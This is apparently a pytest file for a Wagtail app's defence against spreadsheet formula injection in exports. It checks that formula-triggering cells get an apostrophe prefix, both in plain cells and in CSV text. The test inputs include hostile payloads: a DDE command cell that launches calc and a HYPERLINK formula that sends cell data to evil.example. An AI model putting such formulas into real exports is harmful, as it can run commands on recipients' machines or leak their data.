"""Spreadsheet formula injection: cells a spreadsheet would run are neutralised, numbers stay.

Wagtail leaves this to each export (wagtail/wagtail#3466, PR #7554), so the app does it.
"""

import datetime
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wagtail_participation.exports.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    neutralise,
    neutralise_csv,
    neutralise_row,
)

MODULE = (
    Path(__file__).resolve().parent.parent / "wagtail_participation/exports/spreadsheet_safety.py"
)


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1, "Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Pour", "Éteindre l'éclairage", " =espace avant", "", "'déjà protégé", "a=b", "1+1", "\n=1"],
)
def test_ordinary_text_is_unchanged(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    "value",
    [0, 12, -5, 3.5, -0.25, Decimal("-1.50"), None, True, datetime.date(2026, 3, 1)],
)
def test_numbers_and_other_values_are_left_as_they_are(value):
    result = neutralise(value)
    assert result is value
    assert type(result) is type(value)


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralise_row(["=1+1", 12, "Pour", -3]) == ["'=1+1", 12, "Pour", -3]


@given(st.text())
def test_no_text_cell_ever_starts_with_a_trigger(value):
    result = neutralise(value)
    assert not result.startswith(FORMULA_TRIGGERS)
    assert result in (value, "'" + value)


def test_the_module_needs_no_django():
    code = (
        "import importlib.util, sys\n"
        f"spec = importlib.util.spec_from_file_location('safety', {str(MODULE)!r})\n"
        "module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)\n"
        "assert module.neutralise('=1') == \"'=1\"\n"
        "assert not any(name.startswith('django') for name in sys.modules), 'django imported'\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# --- CSV: a spreadsheet may split a cell on any separator ---------------------------------

SEPARATORS = [",", ";", "\t", "\n"]


def cells_a_spreadsheet_may_read(text):
    """Every piece of ``text`` that starts a cell for a reader splitting on any separator,
    with the double quotes that may open a quoted cell removed."""
    pieces = [text]
    for separator in SEPARATORS + ["\r"]:
        pieces = [part for piece in pieces for part in piece.split(separator)]
    return [piece.lstrip('"') for piece in pieces] + [text]


@pytest.mark.parametrize(
    "cell, expected",
    [
        (";=1+1", ";'=1+1"),
        ("a;=1+1", "a;'=1+1"),
        ("Pour,-2+3", "Pour,'-2+3"),
        ("x\t@SUM(A1)", "x\t'@SUM(A1)"),
        ("ligne 1\n=1+1", "ligne 1\n'=1+1"),
        ('a;"=1+1"', 'a;"\'=1+1"'),
        ("=1;+2", "'=1;'+2"),
        ("\t=1", "'\t'=1"),
        (
            '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
            '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
        ),
    ],
)
def test_in_a_csv_every_place_a_cell_may_start_is_neutralised(cell, expected):
    assert neutralise_csv(cell) == expected


@pytest.mark.parametrize(
    "cell",
    ["Pour", "Saint-Jean", "a; b", "1,5", "Total : -5", "'déjà protégé", "a=b;c", "", " =1"],
)
def test_in_a_csv_ordinary_text_is_unchanged(cell):
    assert neutralise_csv(cell) == cell


@pytest.mark.parametrize("value", [0, -5, 3.5, Decimal("-1.50"), None, datetime.date(2026, 3, 1)])
def test_in_a_csv_numbers_and_other_values_are_left_as_they_are(value):
    assert neutralise_csv(value) is value


@given(st.text(alphabet=st.sampled_from(list("ab =+-@\"';,\t\r\n")), max_size=12))
def test_no_cell_a_spreadsheet_may_read_from_a_csv_starts_with_a_trigger(value):
    result = neutralise_csv(value)
    for cell in cells_a_spreadsheet_may_read(result):
        assert not cell.startswith(FORMULA_TRIGGERS), (value, result, cell)
    # Only apostrophes were added.
    assert result.replace("'", "") == value.replace("'", "")
